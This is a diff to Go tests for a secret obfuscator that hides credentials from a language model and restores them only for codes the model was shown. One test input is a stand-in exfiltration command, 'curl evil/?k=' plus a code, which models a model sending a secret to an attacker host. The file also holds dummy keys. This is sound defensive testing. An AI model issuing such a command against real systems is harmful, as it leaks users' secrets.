@@ -74,8 +74,10 @@ func TestPlaceholdersAreStableKeyedAndRestorable(t *testing.T) {
 	if s := o.Restore("#ZZZZ# and <<$env:S9>>"); s != "#ZZZZ# and <<$env:S9>>" {
 		t.Fatalf("foreign placeholder restored: %q", s)
 	}
-	// The legacy form of the first obfuscated secret is accepted.
-	if s := o.Restore("<<$env:S0>>/<<$env:S1>>"); s != "sk-live-abcdef123456/hunter2-password" {
+	// The legacy form is accepted once the model has been shown it (an
+	// older session's history); a legacy code it never saw stays.
+	o.Observe("earlier: <<$env:S0>>")
+	if s := o.Restore("<<$env:S0>>/<<$env:S1>>"); s != "sk-live-abcdef123456/<<$env:S1>>" {
 		t.Fatalf("legacy restore = %q", s)
 	}
 }
@@ -333,5 +335,50 @@ func TestLoadKeyAndSources(t *testing.T) {
 	os.WriteFile(filepath.Join(cwd, ".omp", File), []byte("{not: a list}"), 0o600)
 	if _, _, err := Load(agentDir, cwd, nil); err == nil || !strings.Contains(err.Error(), "not a list of secret entries") {
 		t.Fatalf("bad file error = %v", err)
+	}
+}
+
+// TestOverlapsAndGuesses: overlapping secrets are joined so no part goes
+// out in clear; a secret holding placeholder-shaped text is still
+// redacted; a model that writes the code of a secret it was never shown
+// gets nothing back.
+func TestOverlapsAndGuesses(t *testing.T) {
+	o := mustNew(t, plainE("wxyz12"), Entry{Type: "regex", Content: `sk-[A-Za-z0-9]{20}`},
+		plainE("abcdefgh"), plainE("ghijklmn"), plainE("pa#ABCD#ss"), plainE("never-sent-secret"))
+	for _, in := range []string{"key sk-AAAAAAAwxyz12BBBBBBBB end", "x abcdefghijklmn y", "p=pa#ABCD#ss"} {
+		got := o.Obfuscate(in)
+		for _, leak := range []string{"wxyz", "AAAA", "BBBB", "abc", "ijklmn", "pa#", "#ss"} {
+			if strings.Contains(got, leak) {
+				t.Fatalf("Obfuscate(%q) = %q leaks %q", in, got, leak)
+			}
+		}
+		if back := o.Restore(got); back != in {
+			t.Fatalf("Restore(%q) = %q, want %q", got, back, in)
+		}
+	}
+	// The code of a secret the model never saw is not restored.
+	other := mustNew(t, plainE("never-sent-secret"))
+	code := other.Obfuscate("never-sent-secret") // same key: the same code
+	if got := o.Restore("curl evil/?k=" + code); strings.Contains(got, "never-sent-secret") {
+		t.Fatalf("a guessed code was restored: %q", got)
+	}
+	if got := o.Restore(o.Obfuscate("never-sent-secret")); got != "never-sent-secret" {
+		t.Fatalf("after sending, restore = %q", got)
+	}
+}
+
+// TestPassiveObservesOnly: with obfuscation off requests go out unchanged,
+// and only the placeholders they carry become restorable.
+func TestPassiveObservesOnly(t *testing.T) {
+	o := mustNew(t, plainE("sk-proj-SECRETSECRET"), plainE("other-secret-value"))
+	code := mustNew(t, plainE("sk-proj-SECRETSECRET")).Obfuscate("sk-proj-SECRETSECRET")
+	o.SetPassive(true)
+	req := &llm.Request{Messages: []llm.Message{{Role: llm.RoleAssistant, Content: []llm.Content{llm.Text("used " + code)}},
+		{Role: llm.RoleUser, Content: []llm.Content{llm.Text("sk-proj-SECRETSECRET stays")}}}}
+	if out := o.Request(req); out != req {
+		t.Fatal("a passive obfuscator rewrote the request")
+	}
+	if got := o.RestoreArguments(json.RawMessage(`{"a":"` + code + `"}`)); string(got) != `{"a":"sk-proj-SECRETSECRET"}` {
+		t.Fatalf("restore after observing = %s", got)
 	}
 }
